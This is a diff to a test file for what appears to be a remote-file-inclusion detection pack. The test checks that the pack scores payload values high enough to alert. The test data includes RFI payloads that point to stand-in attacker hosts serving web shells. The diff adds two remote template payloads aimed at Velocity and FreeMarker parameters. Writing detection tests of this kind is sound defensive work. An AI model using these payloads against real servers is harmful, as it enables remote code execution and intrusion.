@@ -103,6 +103,9 @@ describe('RFI pack', () => {
       ['\\\\198.51.100.7\\share\\shell.php', 'q'],
       ['http://evil.example/shell.txt', 'include_path'],
       ['/core/admin/showcat.php?absoluteurlhttp://evil.example/r57.txt?', 'q'],
+      // A remote server-side template (Velocity, FreeMarker) for a template parameter.
+      ['ftp://198.51.100.7:8021/cmd.vm', 'macro.params._template'],
+      ['https://evil.example/x.ftl', 'template'],
     ] as const)
       expect({ value, alerts: score(rfiPack, value, 'query', name) >= 5 }).toEqual({ value, alerts: true });
   });
